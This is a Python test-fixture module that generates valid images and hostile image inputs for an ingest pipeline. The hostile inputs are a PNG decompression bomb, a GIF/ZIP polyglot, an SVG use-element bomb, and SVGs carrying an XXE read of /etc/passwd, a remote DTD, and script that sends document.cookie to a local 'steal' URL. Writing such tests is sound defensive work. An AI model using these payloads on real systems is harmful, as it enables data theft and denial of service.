"""Test inputs for ingest, made on the spot: good images in every accepted format and
the hostile ones (bomb, truncation, polyglots, malicious SVG)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import numpy
from PIL import ExifTags, Image

GPS_LAT = (52.0, 22.0, 12.5)  # 52.3701389 N
GPS_LON = (4.0, 53.0, 30.0)  # 4.8916667 W


def encoded(picture: Image.Image, fmt: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    picture.save(buffer, fmt, **params)
    return buffer.getvalue()


def solid_png(index: int, size: tuple[int, int] = (8, 8)) -> bytes:
    """A tiny PNG whose colour (and so whose bytes and id) differs for each index."""
    colour = (index % 256, (index // 256) % 256, 77)
    return encoded(Image.new("RGB", size, colour), "PNG")


def noise_jpeg(seed: int, size: tuple[int, int] = (1600, 1000)) -> bytes:
    """A photo-sized JPEG that is slow enough to decode and has pyramid levels."""
    rng = numpy.random.default_rng(seed)
    pixels = rng.integers(0, 256, (size[1] // 8, size[0] // 8, 3), dtype=numpy.uint8)
    picture = Image.fromarray(pixels, "RGB").resize(size, Image.Resampling.BILINEAR)
    return encoded(picture, "JPEG", quality=90)


def left_right_picture(size: tuple[int, int] = (400, 200)) -> Image.Image:
    """Red left half, blue right half: orientation and content survive a round trip."""
    picture = Image.new("RGB", size, (220, 20, 20))
    picture.paste((20, 20, 220), (size[0] // 2, 0, size[0], size[1]))
    return picture


def camera_exif(*, gps: bool) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Apple"
    exif[ExifTags.Base.Model] = "iPhone 15 Pro"
    exif_ifd = exif.get_ifd(ExifTags.IFD.Exif)
    exif_ifd[ExifTags.Base.DateTimeOriginal] = "2024:05:06 07:08:09"
    exif_ifd[ExifTags.Base.OffsetTimeOriginal] = "+02:00"
    if gps:
        gps_ifd = exif.get_ifd(ExifTags.IFD.GPSInfo)
        gps_ifd[ExifTags.GPS.GPSLatitudeRef] = "N"
        gps_ifd[ExifTags.GPS.GPSLatitude] = GPS_LAT
        gps_ifd[ExifTags.GPS.GPSLongitudeRef] = "W"
        gps_ifd[ExifTags.GPS.GPSLongitude] = GPS_LON
    return exif


def gps_jpeg() -> bytes:
    return encoded(left_right_picture(), "JPEG", quality=92, exif=camera_exif(gps=True))


def heic() -> bytes:
    """An iPhone-style HEIC with EXIF, encoded by pillow-heif itself."""
    import pillow_heif

    pillow_heif.register_heif_opener()
    return encoded(left_right_picture(), "HEIF", quality=90, exif=camera_exif(gps=False).tobytes())


def dng(size: tuple[int, int] = (384, 256)) -> bytes:
    """A real (tiny) DNG: an RGGB Bayer mosaic of a red-left / blue-right scene with
    the DNG tags LibRaw needs, written by tifffile.  Not from a camera, but LibRaw
    decodes and demosaics it exactly as it would one."""
    import tifffile

    width, height = size
    scene = numpy.zeros((height, width, 3))
    scene[:, : width // 2] = (3500, 300, 300)
    scene[:, width // 2 :] = (300, 300, 3500)
    mosaic = numpy.empty((height, width), numpy.uint16)
    mosaic[0::2, 0::2] = scene[0::2, 0::2, 0]
    mosaic[0::2, 1::2] = scene[0::2, 1::2, 1]
    mosaic[1::2, 0::2] = scene[1::2, 0::2, 1]
    mosaic[1::2, 1::2] = scene[1::2, 1::2, 2]
    identity = (1, 1, 0, 1, 0, 1, 0, 1, 1, 1, 0, 1, 0, 1, 0, 1, 1, 1)
    tags = [
        (33421, "H", 2, (2, 2), True),  # CFARepeatPatternDim
        (33422, "B", 4, (0, 1, 1, 2), True),  # CFAPattern: R G / G B
        (50706, "B", 4, (1, 4, 0, 0), True),  # DNGVersion
        (50707, "B", 4, (1, 1, 0, 0), True),  # DNGBackwardVersion
        (50708, "s", 0, "Pictor Test Camera", True),  # UniqueCameraModel
        (50714, "H", 1, 0, True),  # BlackLevel
        (50717, "H", 1, 4095, True),  # WhiteLevel
        (50721, "2i", 9, identity, True),  # ColorMatrix1
        (50728, "2I", 3, (1, 1, 1, 1, 1, 1), True),  # AsShotNeutral
        (50778, "H", 1, 21, True),  # CalibrationIlluminant1: D65
        (271, "s", 0, "PictorCam", True),  # Make
        (272, "s", 0, "PictorCam Mark I", True),  # Model
    ]
    buffer = io.BytesIO()
    tifffile.imwrite(buffer, mosaic, photometric=32803, extratags=tags, subfiletype=0)
    return buffer.getvalue()


def png_bomb(side: int = 30000) -> bytes:
    """A PNG whose header claims side x side pixels (900 MP, 2.7 GB decoded) in a few
    kilobytes: the IDAT holds the first rows only, compressed.  Only a decoder that
    trusts the header before checking the size would allocate the whole picture."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(
            ">I", zlib.crc32(kind + body) & 0xFFFFFFFF
        )

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (1 + side * 3) * 4, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(
        b"IEND", b""
    )


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n")
        archive.writestr("Exploit.class", b"\xca\xfe\xba\xbe")
    return buffer.getvalue()


def gifar() -> bytes:
    return encoded(Image.new("P", (16, 16), 3), "GIF") + zip_archive()


SVG_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">
  <text x="0" y="50">&passwd;</text>
</svg>"""

SVG_REMOTE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"/>"""


def svg_hostile(local_image: Path) -> bytes:
    """A red/blue SVG that also carries a script, event handlers, an external image
    (a local file resvg would otherwise read), a remote stylesheet and CSS url()s."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="400" height="200" viewBox="0 0 400 200" onload="alert(1)">
  <script>fetch('http://127.0.0.1:9/steal?' + document.cookie)</script>
  <style>@import url("http://127.0.0.1:9/remote.css"); .b {{ fill: #1414dc; }}</style>
  <rect x="0" y="0" width="200" height="200" fill="#dc1414" onclick="alert(2)"/>
  <rect class="b" x="200" y="0" width="200" height="200"/>
  <image x="0" y="0" width="400" height="100" xlink:href="{local_image}"/>
  <image x="0" y="100" width="400" height="100" href="file://{local_image}"/>
  <rect x="0" y="0" width="10" height="10" style="fill: url(http://127.0.0.1:9/p.svg#p)"/>
  <foreignObject width="400" height="200"><div xmlns="http://www.w3.org/1999/xhtml">
    <iframe src="http://127.0.0.1:9/"/></div></foreignObject>
</svg>""".encode()


def svg_use_bomb(levels: int = 10, fan_out: int = 10) -> bytes:
    """Each group uses the previous one ``fan_out`` times: fan_out**levels elements."""
    groups = ['<g id="l0"><rect width="1" height="1"/></g>']
    for level in range(1, levels + 1):
        uses = "".join(f'<use href="#l{level - 1}"/>' for _ in range(fan_out))
        groups.append(f'<g id="l{level}">{uses}</g>')
    body = "".join(groups)
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">{body}</svg>'.encode()
